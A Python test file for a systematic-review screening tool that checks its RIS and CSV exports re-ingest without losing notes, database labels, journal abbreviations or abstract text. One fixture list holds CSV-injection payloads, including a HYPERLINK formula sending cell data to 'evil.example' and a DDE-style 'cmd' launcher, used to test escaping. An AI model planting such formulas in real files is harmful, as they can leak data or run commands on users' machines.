"""Our own exports, ingested again: trimmed real exports of five databases are ingested,
written by `screening export`'s RIS and CSV writers, and read back by ingest.

Acceptance testing found two losses on the way back: RIS notes (``N1``: a reference
manager's notes, EBSCO's source info, the team's screening notes) were dropped, and a
re-ingested CSV export warned that it 'names no database', its records counted under
'Unknown source' in PRISMA-S although every row names its database.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

from screening.export import to_ris
from screening.export_csv import csv_export
from screening.stages.ingest import RawSource, ingest

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "exports"
# one file per database, each naming its database in its records (or by its dialect)
SOURCES = ("ris_scopus.ris", "ris_wos.ris", "ris_ebsco_psycinfo.ris", "ris_embase.ris", "medline_pubmed.nbib")


def _table(names: tuple[str, ...]) -> pd.DataFrame:
    return ingest([RawSource(name, (FIX / name).read_bytes()) for name in names]).records


def _exported(table: pd.DataFrame) -> pd.DataFrame:
    # the decision columns `screening export` adds to every row (select())
    return table.assign(stage="title_abstract", status="final", decision="include", reason="",
                        resolved_by="agreement")


def _notes(table: pd.DataFrame) -> list[list[str]]:
    return [[line for line in str(v).split("\n") if line] for v in table["notes"]]


def test_ris_notes_are_kept_and_come_back_from_our_ris_export() -> None:
    table = _table(SOURCES + ("ris_zotero.ris",))
    notes = _notes(table)
    by_file: dict[str, list[str]] = {}
    for name, n in zip(table["source_file"], notes):
        by_file.setdefault(name, n)                             # each file's first record
    # real N1 values, cleaned like every text value (Zotero's HTML note, Scopus' export note)
    assert by_file["ris_zotero.ris"] == [
        "Times Cited in Web of Science Core Collection: 12 Total Times Cited: 12 Cited Reference Count: 11"]
    assert by_file["ris_scopus.ris"][0].startswith("Export Date: 28 January 2025; Cited By: 0;")
    assert by_file["ris_ebsco_psycinfo.ris"][0].startswith("Accession Number: 2023-15354-001.")
    assert by_file["medline_pubmed.nbib"] == []                 # MEDLINE has no notes
    back = ingest([RawSource("export.ris", to_ris(_exported(table)).encode("utf-8"))]).records
    assert back["source_record_id"].tolist() == table["record_id"].tolist()
    for old, new, rid in zip(notes, _notes(back), table["record_id"]):
        # ours first (the record's id, its screening outcome), then the notes it came with
        assert new[0] == f"record_id: {rid}" and "screening (title_abstract): final, include (agreement)" in new
        assert not old or new[-len(old):] == old, rid
    # a second round trip adds nothing: the notes written are not repeated
    again = ingest([RawSource("again.ris", to_ris(_exported(back.assign(record_id=table["record_id"])))
                              .encode("utf-8"))]).records
    assert again["notes"].tolist() == back["notes"].tolist()


def test_csv_export_reingests_with_each_records_database_and_notes() -> None:
    table = _table(SOURCES)
    assert table["source_db"].nunique() == 5 and (table["source_db"] != "").all()
    text = csv_export(_exported(table)).text
    result = ingest([RawSource("export.csv", text.encode("utf-8-sig"))])
    assert not [w for w in result.report.warnings if "names no database" in w], result.report.warnings
    back = result.records
    assert back["record_id"].tolist() == table["record_id"].tolist()
    assert back["source_db"].tolist() == table["source_db"].tolist()
    header = next(csv.reader(io.StringIO(text)))
    # not 'notes': `decide --from` reads a file with a 'notes' column holding Rayyan's
    # decisions (its RIS exports' N1) as a Rayyan export, not as ours
    assert "source_notes" in header and "notes" not in header
    assert back["notes"].tolist() == table["notes"].tolist()
    assert back["title"].tolist() == table["title"].tolist() and back["doi"].tolist() == table["doi"].tolist()
    # the PRISMA-S count per database is the original one, no 'Unknown source'
    assert result.report.details["records_per_database"] == table.groupby("source_db").size().to_dict()
    # and a --database given for the file still names them all, as for any export
    named = ingest([RawSource("export.csv", text.encode("utf-8-sig"), database="Screened set")]).records
    assert set(named["source_db"]) == {"Screened set"}



def test_csv_export_keeps_the_journal_abbreviation() -> None:
    """The RIS export keeps it as J2; the CSV had no column for it, and a CSV round trip lost
    82 of 486 in the wildfire funnel (acceptance testing)."""
    table = _table(SOURCES)
    assert (table["journal_abbrev"] != "").sum() == 6
    text = csv_export(_exported(table)).text
    header = next(csv.reader(io.StringIO(text)))
    assert header.index("journal_abbrev") == header.index("journal") + 1      # with the journal
    back = ingest([RawSource("export.csv", text.encode("utf-8-sig"))]).records
    assert back["journal_abbrev"].tolist() == table["journal_abbrev"].tolist()
    assert back["journal"].tolist() == table["journal"].tolist()

def test_csv_and_ris_exports_read_back_a_scraped_abstract_alike() -> None:
    """A real Dimensions abstract (dimensions_246-00205 of the wildfire funnel) ends in scraped
    web-page script, '... }, 1); // ]]>': a CDATA close with no CDATA open. Re-ingested, the
    RIS export kept it and the CSV export lost the ']]>' (acceptance testing): the CSV reader's
    clean_text took a lone marker for markup where the RIS reader's fast path left it. Both
    keep the text as the database gave it."""
    source = Path(__file__).resolve().parents[1] / "fixtures" / "field_cases" / \
        "ris_dimensions_scraped_script_abstract.ris"
    table = ingest([RawSource(source.name, source.read_bytes())]).records
    abstract = table["abstract"].iloc[0]
    assert abstract.endswith("clearInterval(intervalId); } }, 1); // ]]>") and abstract.startswith("Wildfires occur")
    via_ris = ingest([RawSource("export.ris", to_ris(_exported(table)).encode("utf-8"))]).records
    via_csv = ingest([RawSource("export.csv", csv_export(_exported(table)).text.encode("utf-8-sig"))]).records
    assert via_ris["abstract"].tolist() == via_csv["abstract"].tolist() == [abstract]


# formula-like starts (the acceptance tester's titles), and values that begin with quotes
# already: escaping must give each back exactly
_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click") ', "+cmd|' /C calc'!A0 ", "@SUM(1+1) ", "=1+1 ",
             "-", "'=already quoted ", "''+twice ")


def test_formula_like_cells_are_escaped_and_read_back_as_they_were() -> None:
    """CSV injection (acceptance testing): a text cell starting with '=', '+', '-' or '@' was
    written as it was, and Excel, for which the CSV is recommended, runs it as a formula.
    Such cells get a leading "'" (OWASP); numbers (year, a negative score) do not, and the
    CSV reader strips the quote again, so the export reads back unchanged."""
    table = _table(SOURCES)[:len(_FORMULAS)]
    table = table.assign(title=[f + t for f, t in zip(_FORMULAS, table["title"])],
                         abstract=["-" + a for a in table["abstract"]],
                         notes=["@" + n if n else n for n in table["notes"]],
                         score=[-0.5 + i for i in range(len(table))], rank=range(1, len(table) + 1))
    text = csv_export(_exported(table).assign(reason="=wrong population")).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["title"][:len(f) + 1] for r, f in zip(rows, _FORMULAS)] == ["'" + f for f in _FORMULAS]
    assert {r["reason"] for r in rows} == {"'=wrong population"}
    assert all(r["abstract"].startswith("'-") for r in rows)
    assert rows[0]["score"] == "-0.5" and rows[0]["year"] == str(table["year"].iloc[0])     # numbers as they are
    back = ingest([RawSource("export.csv", text.encode("utf-8-sig"))]).records
    for column in ("title", "abstract", "notes", "journal", "doi"):
        assert back[column].tolist() == table[column].tolist(), column
    assert back["reason"].tolist() == ["=wrong population"] * len(table)      # an extra column, unescaped too


def test_a_database_label_ending_in_angle_brackets_comes_back_whole() -> None:
    """Acceptance testing: 'MEDLINE & Embase <Ovid>' came back as 'MEDLINE & Embase' from both
    exports: the '<...>' was cut as if it were an Ovid coverage segment ('<1946 to 2024>')."""
    table = _table(("ris_scopus.ris",)).assign(source_db="MEDLINE & Embase <Ovid>")
    ris = ingest([RawSource("export.ris", to_ris(_exported(table)).encode("utf-8"))]).records
    csv_back = ingest([RawSource("export.csv", csv_export(_exported(table)).text.encode("utf-8-sig"))]).records
    assert set(ris["source_db"]) == set(csv_back["source_db"]) == {"MEDLINE & Embase <Ovid>"}
